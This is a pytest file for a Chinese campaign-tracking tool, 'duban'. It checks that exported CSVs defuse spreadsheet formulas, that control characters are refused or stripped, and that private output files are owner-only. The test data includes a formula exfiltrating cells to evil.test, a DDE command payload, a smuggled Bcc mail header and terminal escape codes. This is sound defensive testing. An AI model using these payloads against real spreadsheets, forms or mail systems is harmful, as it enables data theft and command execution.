"""What duban writes for people to open: CSV files that a spreadsheet shows but never runs,
names that cannot break a mail header or a terminal, and files that hold links and personal
data readable by their owner only."""

from __future__ import annotations

import csv
import io
import os
import stat
from pathlib import Path

import pytest
from sqlalchemy import make_url

from flows.launch import launch_flow
from tests.campaigns import LAUNCH_DAY, dept, snapshot, write_campaign
from tests.helpers import at, duban, send_in
from tests.receivers import SmtpReceiver
from tests.web_helpers import (
    SERVER_NOW,
    Dashboard,
    address,
    coordinator_account,
    execute,
    launch_units,
    page_error,
    scalar,
)
from tests.web_server import web_server

pytestmark = pytest.mark.prefect

# What a department or the reassign form might type, each a formula to Excel or WPS.
FORMULAS = {
    "name": '=HYPERLINK("http://evil.test/?"&A1,"点击查看")',
    "person": "@SUM(1+1)*cmd|' /C calc'!A0",
    "phone": "-2+3",
}


def _csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _shown_as_text(cell: str, typed: str) -> None:
    """OWASP's neutralisation: the typed text behind one apostrophe, nothing else changed."""
    assert cell == "'" + typed, (cell, typed)


def test_csv_exports_show_typed_formulas_as_text(tmp_path: Path, smtp: SmtpReceiver) -> None:
    launch_units(
        tmp_path,
        smtp,
        ["a", "b"],
        names={"a": FORMULAS["name"]},
    )
    execute(
        "UPDATE department SET person = :p, phone = :t WHERE code = 'a'",
        p=FORMULAS["person"],
        t=FORMULAS["phone"],
    )
    coordinator_account()
    reassigned = "=1+2"
    with web_server(DUBAN_NOW=SERVER_NOW) as base:
        desk = Dashboard(base)
        moved = desk.act("b", "reassign", notify=smtp.url(address("b2")), person=reassigned)
        assert moved.status_code == 303, moved.text[:500]
        export = desk.get("/c/test-campaign/export.csv")
        assert export.status_code == 200
    by_code = {row[0]: row for row in _csv(export.text)[1:]}
    header = _csv(export.text)[0]
    a, b = by_code["a"], by_code["b"]
    _shown_as_text(a[header.index("单位名称")], FORMULAS["name"])
    _shown_as_text(a[header.index("联系人")], FORMULAS["person"])
    _shown_as_text(a[header.index("电话")], FORMULAS["phone"])
    _shown_as_text(b[header.index("联系人")], reassigned)
    # Numbers the product counts are numbers, not text behind an apostrophe.
    assert a[header.index("逾期天数")].lstrip("-").isdigit()

    out = tmp_path / "report"
    made = duban("report", "test-campaign", "--out", str(out), "--latest", "--no-send")
    assert made.returncode == 0, made.stderr
    statistics = _csv((out / "test-campaign-statistics.csv").read_text(encoding="utf-8-sig"))
    code, name = statistics[0].index("单位代码"), statistics[0].index("单位名称")
    names = {row[code]: row[name] for row in statistics[1:]}
    _shown_as_text(names["a"], FORMULAS["name"])
    assert names["b"] == "b局"


def test_control_characters_in_a_campaign_file_are_refused_with_their_line(
    tmp_path: Path,
) -> None:
    path = write_campaign(
        tmp_path / "c.yaml",
        [
            dept("a", "a@county.test", name="甲局\r\nBcc: everyone@county.test"),
            dept("b", "b@county.test", name="乙局", person="\x1b]0;owned\x07\x1b[31m王"),
        ],
        title="测试\u202e活动",
    )
    before = snapshot()
    for command in (("launch", str(path)), ("import", "--check", str(path))):
        run = duban(*command)
        assert run.returncode == 2, run.stdout + run.stderr
        said = run.stdout + run.stderr
        assert "\x1b" not in said and "\r" not in said
        lines = path.read_text(encoding="utf-8").splitlines()
        for field, char in (
            ("title", "U+202E"),
            ("departments[0].name", "U+000D"),
            ("departments[1]（乙局）.person", "U+001B"),
        ):
            located = [line for line in said.splitlines() if f": {field}: " in line]
            assert located and char in located[0], (field, said)
            line_no = int(located[0].split(":")[1])
            assert field.rsplit(".", 1)[-1] in lines[line_no - 1], (field, line_no)
    assert snapshot() == before


def test_names_stored_with_escape_codes_print_as_plain_text(tmp_path: Path) -> None:
    path = write_campaign(tmp_path / "c.yaml", [dept("a", "a@county.test", name="甲局")])
    launch_flow(path=str(path), now=at("2021-09-13 09:00"))
    # As a database from before names were checked may hold it.
    execute("UPDATE department SET name = :n WHERE code = 'a'", n="\x1b]0;owned\x07\x1b[2J甲局\x07")
    shown = duban("status", "test-campaign", "--now", LAUNCH_DAY)
    assert shown.returncode == 0, shown.stderr
    assert "甲局" in shown.stdout
    assert not any(ch in shown.stdout + shown.stderr for ch in "\x1b\x07")


def test_the_reassign_form_refuses_control_characters(tmp_path: Path, smtp: SmtpReceiver) -> None:
    launch_units(tmp_path, smtp, ["a"])
    coordinator_account()
    with web_server(DUBAN_NOW=SERVER_NOW) as base:
        desk = Dashboard(base)
        before = snapshot()
        refused = desk.act("a", "reassign", notify=smtp.url(address("a2")), person="王\r\n五")
        assert refused.status_code == 409
        assert "联系人含有不可见的控制字符（U+000D）" in page_error(refused.text)
        assert snapshot() == before


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_links_and_personal_data_are_written_owner_only(
    tmp_path: Path, duban_env: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The widest umask an office server has: what is private must not depend on it.
    old = os.umask(0o022)
    try:
        path = write_campaign(tmp_path / "c.yaml", [dept("a", "a@county.test")])
        launch_flow(path=str(path), now=at("2021-09-13 09:00"))  # no relay: mail to the outbox
        send_in("a", "甲局的活动总结。", "2021-09-20T10:00", picture=True)
        out = tmp_path / "new" / "reports"
        made = duban("report", "test-campaign", "--out", str(out), "--latest", "--no-send")
        assert made.returncode == 0, made.stderr
    finally:
        os.umask(old)
    mails = sorted((duban_env / "outbox").rglob("*.eml"))
    assert mails and "http://duban.test/d/" in mails[0].read_text(encoding="utf-8")
    for mail in mails:
        assert _mode(mail) == 0o600, mail
        assert _mode(mail.parent) == 0o700, mail.parent
    assert _mode(duban_env / "outbox") == 0o700
    made_files = [p for p in out.rglob("*") if p.is_file()]
    assert len(made_files) >= 4  # docx, html, csv and the picture beside the page
    for made_file in made_files:
        assert _mode(made_file) == 0o600, made_file
    assert _mode(out) == 0o700 and _mode(out.parent) == 0o700
    url = make_url(os.environ["DUBAN_DATABASE_URL"])
    if url.get_backend_name() == "sqlite":
        # A database the product creates: a new file, and SQLite's -wal beside it.
        fresh = tmp_path / "fresh" / "duban.db"
        created = duban("migrate", env_extra={"DUBAN_DATABASE_URL": f"sqlite:///{fresh}"})
        assert created.returncode == 0, created.stderr
        for file in fresh.parent.iterdir():
            assert _mode(file) == 0o600, file
        assert _mode(fresh.parent) == 0o700
    assert scalar("SELECT count(*) FROM department") == 1
